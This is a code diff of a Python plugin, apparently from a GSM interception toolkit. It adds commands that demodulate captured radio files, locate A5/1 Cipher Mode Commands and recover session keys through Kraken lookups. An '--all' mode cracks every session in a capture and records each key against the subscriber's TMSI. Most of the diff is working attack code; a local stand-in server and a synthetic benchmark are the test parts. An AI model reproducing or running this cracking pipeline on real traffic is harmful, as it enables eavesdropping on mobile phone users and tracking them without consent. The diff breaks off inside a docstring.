@@ -1,20 +1,53 @@
 # -*- coding: utf-8 -*-
 import array
+import os
+import random
+import signal
+import struct
+import threading
+import time
+from functools import partial
 from itertools import cycle, dropwhile
-from subprocess import check_output
 
 import grgsm
+import numpy
+import pmt
 from gnuradio import gr
 
 from adapter.kraken_adapter import KrakenA51ReconstructorAdapter
-from core.adapterinterfaces.a5 import A5BurstSet, A5ReconstructionAdapter
+from adapter.kraken_server import KrakenStandInServer
+from core.adapterinterfaces.a5 import BURST_PAYLOAD_LENGTH, A5BurstSetBatch, A5ReconstructionAdapter, \
+    bits_from_strings, bits_to_string, unpack_bits
+from core.gsm import a51, framecoder
+from core.gsm.burstcontainer import BurstFileWindow, BurstWindowReader, PlainBurstFile, read_arfcn
+from core.gsm.burstfile import GSMTAP_HEADER_LENGTH, GSMTAP_OFFSET_FRAME_NUMBER
+from core.gsm.burstreader import BurstFileReader
+from core.gsm.burstring import DEFAULT_MEMORY_LIMIT, BurstRing
+from core.gsm.cellstore import TIMING_ADVANCE_OCTET, TIMING_ADVANCES, open_cell_store
+from core.gsm.cfile import read_cfile_header
+from core.gsm.demodulation import demodulate_cfile, demodulated_with, write_parameters
+from core.gsm.flowgraph import EarlyTermination
+from core.gsm.kcstore import KcEntry, open_kc_store
+from core.gsm.padding import RANDOMIZED_THRESHOLD, count_fill_frames, randomization_probability
+from core.gsm.ringcapture import classify_message, initial_tmsi
 from core.plugin.interface import plugin, PluginBase, cmd, arg, arg_exclusive, arg_group
 
+# the cmc of a session is expected within 10000 SDCCH messages after the immediate assignment
+CMC_SEARCH_FRAMES = 51 * 10000
+
+# the SACCH messages in front of a cmc that are taken into account by the SACCH attack
+SACCH_WINDOW_FRAMES = 2 * 102
+
+# the initial message of a session, that identifies the mobile, precedes the cmc by a few SDCCH messages
+IDENTITY_SEARCH_FRAMES = 51 * 20
+
 
 @plugin(name='A5/1 Kraken TMTO Plugin', description='Kraken ftw')
 class A51ReconstructionPlugin(PluginBase):
     attack_modes = ['SDCCH', 'SACCH', 'SDCCH/SACCH']
     channel_modes = ['BCCH', 'BCCH_SDCCH4', 'SDCCH8']
+    si_collection_frames = 8 * 102  # SACCH multiframes read in front of the cmc window
+    timing_advance_offsets = (0, -1, 1)  # timing advance hypotheses for the SACCH attack
 
     @arg("-m", action="store", dest="mode", choices=channel_modes,
          help="Channel mode. This determines on which channels to search for messages that can be cracked.",
@@ -24,7 +57,12 @@ class A51ReconstructionPlugin(PluginBase):
          default="SDCCH/SACCH")
     @arg("-t", action="store", dest="timeslot", type=int,
          help="Timeslot of the Immediate Assignment or Cipher Mode Command.", default=0)
+    @arg("--no-race", action="store_false", dest="race",
+         help="In attack mode SDCCH/SACCH, submit the burst sets by their likelihood only, instead of letting "
+              "the SDCCH and SACCH attack take turns.")
     @arg("-v", action="store_true", dest="verbose", help="If enabled the command displays verbose information.")
+    @arg("--memory", action="store", dest="memory", type=int, default=DEFAULT_MEMORY_LIMIT // (1024 * 1024),
+         help="Memory in MB for the bursts kept by the analysis. Default: %(default)s")
     @arg_exclusive(args=[
         arg("--cfile", action="store_path", dest="cfile", help="cfile."),
         arg("--bursts", action="store_path", dest="bursts", help="bursts.")
@@ -40,58 +78,90 @@ class A51ReconstructionPlugin(PluginBase):
     ])
     @arg_exclusive(args=[
         arg("--frame-ia", action="store", dest="fnr_ia", type=int, help="Framenumber of the Immediate Assignment."),
-        arg("--frame-cmc", action="store", dest="fnr_cmc", type=int, help="Framenumber of the Cipher Mode Command.")
+        arg("--frame-cmc", action="store", dest="fnr_cmc", type=int, help="Framenumber of the Cipher Mode Command."),
+        arg("--all", action="store_true", dest="all_sessions",
+            help="Reconstruct the keys of all A5/1 sessions in the capture.")
     ])
+    @arg("--results", action="store_path", dest="results",
+         help="Table of the keys reconstructed with --all. Sessions already in the table are skipped. "
+              "Default: the burst file with the extension .kc")
     @cmd(name="a51_kraken", description="Reconstruct A51 session key from captured messages using Kraken TMTO.")
     def a51_kraken(self, args):
         fnr_cmc = args.fnr_cmc
         timeslot = args.timeslot
         subchannel = None
         is_cmc_provided = False
-        burst_file = args.bursts
         mode = args.mode
 
+        if args.cfile is not None:
+            args.bursts = self.demodulate_cfile(args)
+            if args.bursts is None:
+                return
+        burst_file = args.bursts
+
+        if args.all_sessions:
+            self.crack_all_sessions(args)
+            return
+
         if args.fnr_cmc is not None:
             is_cmc_provided = True
+            fnr_start = fnr_cmc - 2 * 102  # should be (args.fnr_cmc - 3 * 102 + max_fnr) mod max_fnr
+            fnr_end = fnr_cmc + 3 * 102 + 3  # should be (args.fnr_cmc + 3 * 102 + 3) mod max_fnr
+            channels = {timeslot: mode}
+            # the analysis stops as soon as the cmc was decoded
+            analyzer_args = dict(fnr_cmc=fnr_cmc)
+            # we also read some SACCH multiframes before the window for collecting the SI message types,
+            # unless they are known from earlier captures of the cell, and the initial message of the session
+            read_start = fnr_cmc - IDENTITY_SEARCH_FRAMES
+            if args.attackmode != "SDCCH" and not self.known_sacch_messages(burst_file, timeslot):
+                read_start = min(read_start, fnr_start - self.si_collection_frames)
+            read_end = fnr_end
         elif args.fnr_ia is not None:
-            ia_extractor = ImmediateAssignmentExtractor(burst_file, timeslot, mode, args.fnr_ia)
-            ia_extractor.start()
-            ia_extractor.wait()
-
-            error = True
-            mode = "BCCH_SDCCH4"
-            immediate_assignments = ia_extractor.extract_immediate_assignment.get_frame_numbers()
-            for i in range(len(immediate_assignments)):
-                if immediate_assignments[i] == args.fnr_ia:
-                    self.printmsg("Immediate Assignment at %s" % immediate_assignments[i])
-                    timeslot = ia_extractor.extract_immediate_assignment.get_timeslots()[i]
-                    subchannel = ia_extractor.extract_immediate_assignment.get_subchannels()[i]
-                    if ia_extractor.extract_immediate_assignment.get_channel_types()[i] == "SDCCH/8":
-                        mode = "SDCCH8"
-                    error = False
-                    break
-            if error:
+            # the immediate assignment is decoded first, so only the assigned timeslot is searched for the cmc
+            immediate_assignment = self.decode_immediate_assignment(burst_file, timeslot, mode, args.fnr_ia)
+            if immediate_assignment is None:
                 self.printmsg("No valid framenumber for immediate assignment was provided.")
                 return
 
-            cmc_finder = CMCFinder(burst_file, timeslot, subchannel, mode, args.fnr_ia)  # ToDo: channeltype from ia
-            cmc_finder.start()
-            cmc_finder.wait()
-
-            fnr_cmc = cmc_finder.get_cmc()
-            if fnr_cmc is None:
-                self.printmsg("No cipher mode command was found.")
-                return
+            self.printmsg("Immediate Assignment at %s" % immediate_assignment.frame_number)
+            ccch_timeslot = timeslot
+            timeslot = immediate_assignment.timeslot
+            subchannel = immediate_assignment.subchannel
+            channels = {timeslot: "BCCH_SDCCH4" if timeslot == ccch_timeslot and mode == "BCCH_SDCCH4" else "SDCCH8"}
+            # the analysis stops as soon as the cmc on the assigned channel was decoded
+            analyzer_args = dict(fnr_ia=args.fnr_ia, assigned=(timeslot, subchannel))
+            # the cmc is expected within 10000 SDCCH messages after the immediate assignment, the window also
+            # holds the messages in front of a cmc right after the assignment
+            read_start = args.fnr_ia - 2 * 102
+            read_end = args.fnr_ia + CMC_SEARCH_FRAMES + 3 * 102 + 3
         else:
             self.printmsg("No valid framenumber for cipher mode command or immediate assignment was provided.")
             return
 
-        fnr_start = fnr_cmc - 2 * 102  # should be (args.fnr_cmc - 3 * 102 + max_fnr) mod max_fnr
-        fnr_end = fnr_cmc + 3 * 102 + 3  # should be (args.fnr_cmc + 3 * 102 + 3) mod max_fnr
-
-        cmc_analyzer = CMCAnalyzer(timeslot, burst_file, mode, fnr_start, fnr_end)
-        cmc_analyzer.start()
-        cmc_analyzer.wait()
+        # only the bursts of the channel within the frame number window are read from the burst file, using its
+        # sidecar index. The payloads around the cmc are taken from the same window after the pass, the flowgraph
+        # only passes the decoded messages on.
+        with BurstFileWindow(burst_file, read_start, read_end, timeslot) as window_file:
+            analyzer = SinglePassAnalyzer(window_file, channels, memory_limit=args.memory * 1024 * 1024,
+                                          **analyzer_args)
+            analyzer.start()
+            analyzer.wait()
+            cmc_analyzer = analyzer.channels[timeslot]
+
+            if not is_cmc_provided:
+                # we only listen for a timespan of 10000 SDCCH messages for the CMC
+                fnr_cmc = cmc_analyzer.find_cmc(subchannel, args.fnr_ia, args.fnr_ia + CMC_SEARCH_FRAMES)
+                if fnr_cmc is None:
+                    self.printmsg("No cipher mode command was found.")
+                    return
+
+                fnr_start = fnr_cmc - 2 * 102  # should be (args.fnr_cmc - 3 * 102 + max_fnr) mod max_fnr
+                fnr_end = fnr_cmc + 3 * 102 + 3  # should be (args.fnr_cmc + 3 * 102 + 3) mod max_fnr
+
+            with BurstFileReader(window_file) as reader:
+                cmc_analyzer.add_bursts(reader, timeslot, fnr_start, fnr_end)
+                cmc_analyzer.snr = reader.get_snr(timeslot, fnr_start, fnr_end)
+                arfcn = reader.get_arfcn(timeslot)
 
         if not cmc_analyzer.is_a51_cmc(fnr_cmc):
             self.printmsg("Cipher Mode Command at %s does not assign A5/1" % fnr_cmc)
@@ -104,32 +174,494 @@ class A51ReconstructionPlugin(PluginBase):
 
         kraken_burst_sets = cmc_analyzer.createLapdmUiBurstSets(fnr_cmc)
 
-        kraken_adapter = KrakenA51ReconstructorAdapter(self._config_provider)
+        kraken_adapter = KrakenA51ReconstructorAdapter(self._config_provider, printmsg=self.printmsg)
+
+        try:
+            with open_cell_store(self._config_provider) as cell_store:
+                # the fill frames in front of the cmc show if the cell randomizes the padding of the LAPDm frames
+                padding_counts = {arfcn: count_fill_frames(cmc_analyzer.messages_before(fnr_cmc))}
+                randomized = self.padding_randomization(cell_store, padding_counts)[arfcn]
+                if arfcn is not None:
+                    cell_store.add_sacch_messages(arfcn, cmc_analyzer.si_messages)
+                key = self.crack_session(kraken_adapter, kraken_burst_sets, cmc_analyzer, fnr_start, fnr_cmc, args,
+                                         randomized, cell_store, arfcn)
+        finally:
+            kraken_adapter.close()
+
+        if key is not None:
+            # the key is used by decode for the bursts of this session
+            with open_kc_store(self._config_provider) as kc_store:
+                kc_store.add(KcEntry(key, arfcn, timeslot, subchannel, fnr_cmc, tmsi=cmc_analyzer.get_tmsi(fnr_cmc),
+                                     source=burst_file))
+
+    def demodulate_cfile(self, args):
+        """
+        Demodulate the bursts of a cfile, raw or quantized, into a burst file next to it, using one process per
+        core. A burst file that was demodulated before from the same cfile with the same parameters is reused.
 
-        key_found = False
+        :return: the path of the burst file, None if the frequency of the capture is not known.
+        """
+        cfile = self._data_access_provider.getfilepath(args.cfile)
+        burst_file = os.path.splitext(cfile)[0] + ".bursts"
+
+        ppm = args.ppm if args.ppm is not None else self._config_provider.getint("rtl_sdr", "ppm")
+        sample_rate = args.samp_rate
+        if sample_rate is None:
+            sample_rate = self._config_provider.getint("rtl_sdr", "sample_rate")
+        freq = args.freq
+        if freq is None and args.arfcn is not None:
+            bands = [args.band] if args.band else grgsm.arfcn.get_bands()
+            for band in bands:
+                if grgsm.arfcn.is_valid_arfcn(args.arfcn, band):
+                    freq = grgsm.arfcn.arfcn2downlink(args.arfcn, band)
+                    break
 
-        if args.attackmode != "SACCH":
-            sdcch_counter = 0
-            for burst_set in kraken_burst_sets:
-                if sdcch_counter % 4 == 0 and args.verbose:
-                    self.printmsg(
-                        "Using SDCCH message bursts %s - %s" % (burst_set.frame_number, burst_set.frame_number + 4))
-                sdcch_counter += 1
-
-                key = kraken_adapter.send2kraken(burst_set, args.verbose)
-                if key is not None:
-                    key_found = True
-                    self.printmsg("Key found: %s" % key)
+        # quantized cfiles know their sample rate and center frequency
+        header = read_cfile_header(cfile)
+        if header is not None:
+            sample_rate = header.samp_rate
+            freq = freq if freq is not None else header.fc
+        if freq is None:
+            self.printmsg("The frequency of the cfile capture is not known, provide it with -f or -a.")
+            return None
+        # the bursts are tagged with the ARFCN, the keys and cell statistics are stored under it
+        arfcn = args.arfcn
+        if arfcn is None:
+            bands = [args.band] if args.band else grgsm.arfcn.get_bands()
+            for band in bands:
+                if grgsm.arfcn.is_valid_downlink(freq, band):
+                    arfcn = grgsm.arfcn.downlink2arfcn(freq, band)
                     break
-                else:
-                    # self.printmsg("%s - no key found" % burst_set.frame_number)
-                    pass
+        if arfcn is None:
+            self.printmsg("The ARFCN of the cfile capture is not known, provide it with -a.")
+            return None
+        # a changed cfile or changed parameters are demodulated again
+        parameters = dict(cfile=os.path.abspath(cfile), size=os.path.getsize(cfile), mtime=os.path.getmtime(cfile),
+                          freq=freq, samp_rate=sample_rate, ppm=ppm, arfcn=arfcn)
+        if demodulated_with(burst_file, parameters):
+            self.printmsg("Using the bursts demodulated before from %s" % burst_file)
+            return burst_file
+        if os.path.isfile(burst_file):
+            self.printmsg("%s was demodulated with other parameters or from another cfile, it is replaced" %
+                          burst_file)
+
+        # an interrupted demodulation leaves no burst file behind that would be reused
+        count = demodulate_cfile(cfile, burst_file + ".part", freq, sample_rate, ppm, arfcn=arfcn)
+        os.rename(burst_file + ".part", burst_file)
+        write_parameters(burst_file, parameters)
+        self.printmsg("Demodulated %s bursts into %s" % (count, burst_file))
+        return burst_file
+
+    def crack_session(self, kraken_adapter, kraken_burst_sets, cmc_analyzer, fnr_start, fnr_cmc, args,
+                      randomized=0.0, cell_store=None, arfcn=None):
+        """
+        Reconstruct the key of a session from its LAPDm UI and SACCH burst sets, depending on the attack mode.
+
+        :param randomized: the probability that the cell randomizes the padding of the LAPDm frames.
+        :param cell_store: an optional CellStore with the SACCH messages of the cell.
+        :param arfcn: the ARFCN of the cell.
+        :return: the Kc as hex string or None.
+        """
+        batches = []
+        kinds = []
+        if args.attackmode != "SACCH":
+            if randomized >= RANDOMIZED_THRESHOLD:
+                self.printmsg("The cell randomizes the LAPDm padding, skipped %s SDCCH lookups" %
+                              len(kraken_burst_sets))
+            else:
+                batches.append(kraken_burst_sets)
+                kinds.extend(["LAPDm"] * len(kraken_burst_sets))
+        if args.attackmode != "SDCCH":
+            sacch_burst_sets = self.create_sacch_burst_sets(cmc_analyzer, fnr_start, fnr_cmc, cell_store, arfcn)
+            if sacch_burst_sets is None:
+                self.printmsg("Could not determine last System Information message")
+            else:
+                batches.append(sacch_burst_sets[0])
+                kinds.extend(sacch_burst_sets[1])
+        if not batches:
+            return None
+
+        # the burst sets of both channels are submitted at once, the most promising ones first. the SDCCH and SACCH
+        # attack race each other, the remaining requests of both are cancelled as soon as one of them found the key
+        burst_sets, kinds = kraken_adapter.scheduler.schedule(A5BurstSetBatch.concatenate(batches), kinds,
+                                                              cmc_analyzer.snr, args.race,
+                                                              {"LAPDm": 1.0 - randomized})
+        progress, found = self.scheduler_callbacks(kraken_adapter.scheduler, args.verbose, [(burst_sets, kinds)])
+        results = []
+
+        def finished(session, kc, burst_set):
+            found(kc, burst_set)
+            results.append(kc)
+
+        if not kraken_adapter.crack_sessions([(fnr_cmc, burst_sets)], finished, args.verbose, progress):
+            return None
+        if results[0] is not None:
+            self.printmsg("Key found: %s" % results[0])
+        return results[0]
+
+    def padding_randomization(self, cell_store, padding_counts):
+        """
+        Add the fill frames seen in a capture to the statistics of the cells and classify the cells.
 
-        if key_found or args.attackmode == "SDCCH":
+        :param cell_store: the CellStore.
+        :param padding_counts: a dictionary mapping the ARFCNs to the number of fill frames with fixed and
+        with randomized padding.
+        :return: a dictionary mapping the ARFCNs to the probability that the cell randomizes the padding.
+        """
+        result = dict()
+        for arfcn in padding_counts:
+            if arfcn is None:
+                result[arfcn] = randomization_probability(*padding_counts[arfcn])
+                continue
+            cell_store.add_padding(arfcn, *padding_counts[arfcn])
+            result[arfcn] = randomization_probability(*cell_store.padding(arfcn))
+        return result
+
+    def known_sacch_messages(self, burst_file, timeslot):
+        """
+        :return: True if the System Information messages on SACCH of the cell a session was captured on are
+        in the cell store, so they need not be collected from the capture.
+        """
+        # the ARFCN is taken from the first bursts of the file
+        arfcn = read_arfcn(burst_file, timeslot)
+        if arfcn is None:
+            return False
+        with open_cell_store(self._config_provider) as cell_store:
+            return len(cell_store.sacch_messages(arfcn)) > 0
+
+    def decode_immediate_assignment(self, burst_file, timeslot, mode, fnr_ia):
+        """
+        Decode an Immediate Assignment from the bursts of the CCCH around its framenumber.
+
+        :param timeslot: timeslot of the CCCH.
+        :param mode: channel mode of the CCCH.
+        :param fnr_ia: the framenumber of the Immediate Assignment.
+        :rtype: ImmediateAssignment
+        :return: the Immediate Assignment, None if it was not decoded.
+        """
+        with BurstFileWindow(burst_file, fnr_ia - 51, fnr_ia + 51, timeslot) as window_file:
+            analyzer = SinglePassAnalyzer(window_file, {}, ia_timeslot=timeslot, ia_mode=mode)
+            analyzer.start()
+            analyzer.wait()
+        return analyzer.get_immediate_assignment(fnr_ia)
+
+    def scheduler_callbacks(self, scheduler, verbose, batches=()):
+        """
+        Create the callbacks that count the submitted burst sets and hits in the statistics of the scheduler.
+
+        :param batches: a list of (A5BurstSetBatch, kinds) tuples with the kinds of the submitted burst sets.
+        Burst sets that are not in these batches are classified by their plaintext.
+        :return: a tuple of the progress function for the adapter and a function taking the Kc and the burst set
+        it was found with.
+        """
+        submitted = set()
+        known_kinds = dict()  # (framenumber, plaintext) -> kind
+        for batch, kinds in batches:
+            plain = unpack_bits(batch.plain)
+            for i in range(len(batch)):
+                known_kinds[int(batch.frame_numbers[i]), bits_to_string(plain[i])] = kinds[i]
+
+        def kind_of(burst_set):
+            return known_kinds.get((burst_set.frame_number, burst_set.burst_data_plain),
+                                   self.plaintext_kind(burst_set))
+
+        def progress(burst_set):
+            kind = kind_of(burst_set)
+            scheduler.submitted(kind)
+            submitted.add((burst_set.frame_number, burst_set.burst_data_cipher))
+            if verbose:
+                self.printmsg("Using %s burst %s" % (kind, burst_set.frame_number))
+
+        def found(kc, burst_set):
+            # keys found in the result cache without a request are no new observation
+            if kc is not None and (burst_set.frame_number, burst_set.burst_data_cipher) in submitted:
+                scheduler.found(kind_of(burst_set))
+
+        return progress, found
+
+    @staticmethod
+    def plaintext_kind(burst_set):
+        if burst_set.burst_data_plain in A5ReconstructionAdapter.lapdm_ui:
+            return "LAPDm"
+        return "SACCH"
+
+    def crack_all_sessions(self, args):
+        """
+        Reconstruct the keys of all A5/1 sessions in a burst file. The burst sets of all sessions are cracked
+        through one shared pool of Kraken requests and every result is appended to the results table immediately,
+        so an interrupted run continues with the remaining sessions when it is started again.
+        """
+        burst_file = args.bursts
+        results_file = args.results if args.results is not None else os.path.splitext(burst_file)[0] + ".kc"
+        completed = self.read_results(results_file)
+
+        # every timeslot that can carry a dedicated channel is analyzed in a single pass over the whole file
+        channels = dict((ts, "SDCCH8") for ts in range(8))
+        if args.mode == "BCCH_SDCCH4":
+            channels[args.timeslot] = "BCCH_SDCCH4"
+        with PlainBurstFile(burst_file) as plain_file:
+            analyzer = SinglePassAnalyzer(plain_file, channels, memory_limit=args.memory * 1024 * 1024)
+            analyzer.start()
+            analyzer.wait()
+
+        sessions = []
+        skipped = 0
+        arfcns = dict()
+        tmsis = dict()  # (timeslot, framenumber of the cmc) -> TMSI of the mobile
+        padding_counts = dict()  # arfcn -> fill frames with fixed and with randomized padding
+        # only the windows of the sessions are read, a container is decompressed chunk by chunk for them
+        with BurstWindowReader(burst_file) as windows, open_cell_store(self._config_provider) as cell_store:
+            for timeslot in sorted(analyzer.channels):
+                channel = analyzer.channels[timeslot]
+                arfcns[timeslot] = windows.arfcn(timeslot)
+                if arfcns[timeslot] is not None:
+                    cell_store.add_sacch_messages(arfcns[timeslot], channel.si_messages)
+                for fnr_cmc in sorted(channel.cmcs):
+                    if not channel.is_a51_cmc(fnr_cmc):
+                        continue
+                    if (timeslot, fnr_cmc) in completed:
+                        skipped += 1
+                        continue
+
+                    fnr_start = fnr_cmc - 2 * 102
+                    fnr_end = fnr_cmc + 3 * 102 + 3
+                    # the cmcs are only known after the pass over the whole file, the windows of their sessions are
+                    # read again then. Only the bursts around the latest cmcs are kept in memory.
+                    reader = windows.window(fnr_start, fnr_end)
+                    channel.add_bursts(reader, timeslot, fnr_start, fnr_end)
+                    known = padding_counts.get(arfcns[timeslot], (0, 0))
+                    counts = count_fill_frames(channel.messages_before(fnr_cmc))
+                    padding_counts[arfcns[timeslot]] = (known[0] + counts[0], known[1] + counts[1])
+                    batches = []
+                    kinds = []
+                    try:
+                        if args.attackmode != "SACCH":
+                            batches.append(channel.createLapdmUiBurstSets(fnr_cmc))
+                            kinds.extend(["LAPDm"] * len(batches[-1]))
+                        if args.attackmode != "SDCCH":
+                            sacch_burst_sets = self.create_sacch_burst_sets(channel, fnr_start, fnr_cmc, cell_store,
+                                                                            arfcns[timeslot])
+                            if sacch_burst_sets is not None:
+                                batches.append(sacch_burst_sets[0])
+                                kinds.extend(sacch_burst_sets[1])
+                    except KeyError:
+                        self.printmsg("Cipher Mode Command at %s on timeslot %s: capture is incomplete" %
+                                      (fnr_cmc, timeslot))
+                        continue
+                    batch = A5BurstSetBatch.concatenate(batches)
+                    snr = reader.get_snr(timeslot, fnr_start, fnr_end)
+                    snr = dict((fnr, snr[fnr]) for fnr in set(batch.frame_numbers.tolist() +
+                                                              batch.check_frame_numbers.tolist()) if fnr in snr)
+                    sessions.append(((timeslot, channel.get_subchannel(fnr_cmc), fnr_cmc), batch, kinds, snr))
+                    tmsis[timeslot, fnr_cmc] = channel.get_tmsi(fnr_cmc)
+            randomized = self.padding_randomization(cell_store, padding_counts)
+
+        self.printmsg("Found %s A5/1 sessions, %s of them already in %s" % (len(sessions) + skipped, skipped,
+                                                                          results_file))
+        if not sessions:
             return
 
-        # self.printmsg("Starting attack on SACCH")
+        saved = 0
+        for i, (session, batch, kinds, snr) in enumerate(sessions):
+            if randomized[arfcns[session[0]]] >= RANDOMIZED_THRESHOLD:
+                # LAPDm fill frames of cells that randomize the padding cannot be cracked
+                keep = [j for j in range(len(kinds)) if kinds[j] != "LAPDm"]
+                saved += len(kinds) - len(keep)
+                sessions[i] = (session, batch.take(keep), [kinds[j] for j in keep], snr)
+        if saved:
+            self.printmsg("Skipped %s SDCCH lookups on cells that randomize the LAPDm padding" % saved)
+
+        started = time.time()
+        counter = [0, 0]  # finished sessions, found keys
+
+        kraken_adapter = KrakenA51ReconstructorAdapter(self._config_provider, printmsg=self.printmsg)
+        # the burst sets of every session are ordered by their likelihood to lead to the key
+        sessions = [(session, kraken_adapter.scheduler.schedule(batch, kinds, snr, args.race,
+                                                                {"LAPDm": 1.0 - randomized[arfcns[session[0]]]}))
+                    for session, batch, kinds, snr in sessions]
+        progress, found = self.scheduler_callbacks(kraken_adapter.scheduler, args.verbose,
+                                                   [scheduled for session, scheduled in sessions])
+        sessions = [(session, scheduled[0]) for session, scheduled in sessions]
+
+        try:
+            with open(results_file, "a") as results, open_kc_store(self._config_provider) as kc_store:
+                def finished(session, kc, burst_set):
+                    found(kc, burst_set)
+                    timeslot, subchannel, fnr_cmc = session
+                    if kc is not None:
+                        kc_store.add(KcEntry(kc, arfcns[timeslot], timeslot, subchannel, fnr_cmc,
+                                             tmsi=tmsis[timeslot, fnr_cmc], source=burst_file))
+                    counter[0] += 1
+                    if kc is not None:
+                        counter[1] += 1
+                    results.write("%s\t%s\t%s\t%s\n" % (timeslot, subchannel, fnr_cmc, kc if kc is not None else "-"))
+                    results.flush()
+                    rate = counter[0] * 3600.0 / max(time.time() - started, 1e-6)
+                    self.printmsg("[%s/%s] Cipher Mode Command at %s on timeslot %s: %s (%.1f sessions/hour)" % (
+                        counter[0], len(sessions), fnr_cmc, timeslot, "Key found: %s" % kc if kc else "no key found",
+                        rate))
+
+                kraken_adapter.crack_sessions(sessions, finished, args.verbose, progress)
+        finally:
+            kraken_adapter.close()
+
+        elapsed = time.time() - started
+        self.printmsg("Found %s keys in %s of %s sessions in %.0f seconds (%.1f sessions/hour)" % (
+            counter[1], counter[0], len(sessions), elapsed, counter[0] * 3600.0 / max(elapsed, 1e-6)))
+
+    @staticmethod
+    def read_results(results_file):
+        """
+        Read the sessions in a results table of crack_all_sessions.
+
+        :return: a set of (timeslot, framenumber of the cipher mode command) tuples.
+        """
+        completed = set()
+        if not os.path.isfile(results_file):
+            return completed
+        with open(results_file) as results:
+            for line in results:
+                parts = line.split()
+                if len(parts) == 4 and not line.startswith("#"):
+                    completed.add((int(parts[0]), int(parts[2])))
+        return completed
+
+    @arg("-p", action="store", dest="port", type=int, help="Port to listen on. Default: 9999", default=9999)
+    @arg("--latency", action="store", dest="latency", type=float, help="Seconds a crack request takes.",
+         default=1.0)
+    @arg("--jitter", action="store", dest="jitter", type=float,
+         help="Maximum seconds added randomly to the latency of a request.", default=0.0)
+    @arg("--hit-rate", action="store", dest="hit_rate", type=float,
+         help="Probability that the keystream of a known key is found.", default=1.0)
+    @arg("--key", action="append", dest="keys", nargs=3, metavar=("KC", "FNR_START", "FNR_END"), default=[],
+         help="Known key and the window of framenumbers it is used in. Can be given multiple times.")
+    @cmd(name="kraken_server", description="Run a local stand-in for a Kraken server that finds known keys only.")
+    def kraken_server(self, args):
+        server = KrakenStandInServer("localhost", args.port, args.latency, args.jitter, args.hit_rate)
+        for kc, fnr_start, fnr_end in args.keys:
+            server.add_keys(kc, [KrakenA51ReconstructorAdapter.fn2count(fn)
+                                 for fn in range(int(fnr_start), int(fnr_end) + 1)])
+        self.printmsg("Kraken stand-in listening on port %s with %s known keystreams. Stop with Ctrl-C." % (
+            server.port, len(server.states)))
+
+        stopped = []
+        previous_handler = signal.signal(signal.SIGINT, lambda signum, frame: stopped.append(signum))
+        server.start()
+        try:
+            while not stopped:
+                time.sleep(0.5)
+        finally:
+            server.stop()
+            signal.signal(signal.SIGINT, previous_handler)
+        self.printmsg("Served %s crack requests" % server.requests)
+
+    @arg("--sessions", action="store", dest="sessions", type=int, help="Number of sessions. Default: 20",
+         default=20)
+    @arg("--burst-sets", action="store", dest="burst_sets", type=int,
+         help="Number of burst sets per session. Default: 8", default=8)
+    @arg("--latency", action="store", dest="latency", type=float,
+         help="Seconds a crack request takes on the local stand-in server. Default: 1.0", default=1.0)
+    @arg("--jitter", action="store", dest="jitter", type=float,
+         help="Maximum seconds added randomly to the latency of the local stand-in server. Default: 0.0",
+         default=0.0)
+    @arg("--hit-rate", action="store", dest="hit_rate", type=float,
+         help="Probability that the local stand-in server finds a keystream. Default: 0.25", default=0.25)
+    @arg("--remote", action="store_true", dest="remote",
+         help="Benchmark the configured Kraken servers instead of a local stand-in server.")
+    @arg("-v", action="store_true", dest="verbose", help="If enabled the command displays verbose information.")
+    @cmd(name="a51_kraken_benchmark", description="Benchmark the key reconstruction on synthetic sessions.")
+    def a51_kraken_benchmark(self, args):
+        sessions, keys = self.create_synthetic_sessions(args.sessions, args.burst_sets)
+
+        server = None
+        servers = None
+        if not args.remote:
+            server = KrakenStandInServer("localhost", 0, args.latency, args.jitter, args.hit_rate)
+            for session, batch in sessions:
+                server.add_keys(keys[session], [KrakenA51ReconstructorAdapter.fn2count(int(fn))
+                                                for fn in batch.frame_numbers])
+            server.start()
+            servers = "localhost:%s" % server.port
+
+        latencies = []
+        found = []
+        wrong = []
+
+        def finished(session, kc, burst_set):
+            latencies.append(time.time() - started)
+            if kc is not None:
+                found.append(session)
+                if kc != keys[session]:
+                    wrong.append(session)
+            if args.verbose:
+                self.printmsg("Session %s: %s after %.2f seconds" % (session, kc if kc else "no key found",
+                                                                    latencies[-1]))
+
+        # the result cache is bypassed, every burst set is sent to kraken
+        kraken_adapter = KrakenA51ReconstructorAdapter(self._config_provider, servers, use_cache=False,
+                                                       printmsg=self.printmsg)
+        started = time.time()
+        try:
+            if not kraken_adapter.crack_sessions(sessions, finished, args.verbose):
+                return
+        finally:
+            kraken_adapter.close()
+            if server is not None:
+                server.stop()
+        elapsed = time.time() - started
+
+        if not latencies:
+            return
+        p50, p90, p99 = numpy.percentile(latencies, [50, 90, 99])
+        self.printmsg("Found %s keys in %s sessions with %s burst sets each in %.2f seconds: %.1f sessions/minute" % (
+            len(found), len(sessions), args.burst_sets, elapsed, len(sessions) * 60.0 / max(elapsed, 1e-6)))
+        self.printmsg("Session latency: p50 %.2fs, p90 %.2fs, p99 %.2fs, max %.2fs" % (p50, p90, p99, max(latencies)))
+        if server is not None:
+            self.printmsg("%s crack requests, %s wrong keys" % (server.requests, len(wrong)))
+
+    @staticmethod
+    def create_synthetic_sessions(count, burst_sets):
+        """
+        Create sessions of random keys and plaintexts.
 
+        :param count: the number of sessions.
+        :param burst_sets: the number of burst sets per session.
+        :return: a tuple of the list of (session number, A5BurstSetBatch) tuples and a dictionary mapping
+        the session numbers to the keys as hex strings.
+        """
+        sessions = []
+        keys = dict()
+        for session in range(count):
+            kc = random.getrandbits(64)
+            # SDCCH/8 subslot 0, the verification burst is the next burst of the message
+            first = random.randrange(0, 2715648 - 51 * burst_sets, 51)
+            frame_numbers = first + 51 * numpy.arange(burst_sets)
+            check_frame_numbers = frame_numbers + 1
+            fn2count = KrakenA51ReconstructorAdapter.fn2count
+            keystreams = a51.burst_keystreams(kc, [fn2count(int(fn)) for fn in frame_numbers])
+            check_keystreams = a51.burst_keystreams(kc, [fn2count(int(fn)) for fn in check_frame_numbers])
+            plain = numpy.random.randint(0, 2, keystreams.shape).astype(numpy.uint8)
+            check_plain = numpy.random.randint(0, 2, keystreams.shape).astype(numpy.uint8)
+            sessions.append((session, A5BurstSetBatch(frame_numbers, plain ^ keystreams, plain, check_frame_numbers,
+                                                      check_plain ^ check_keystreams, check_plain)))
+            keys[session] = "%016x" % kc
+        return sessions, keys
+
+    def create_sacch_burst_sets(self, cmc_analyzer, fnr_start, fnr_cmc, cell_store=None, arfcn=None):
+        """
+        Create the burst sets for an attack on the SACCH, with the expected System Information messages as plaintext.
+        The timing advance of the messages after the cipher mode command is not known for sure, besides the last
+        observed timing advance its neighbours are tried as well.
+
+        :param cmc_analyzer: the analysis of the channel of the cipher mode command.
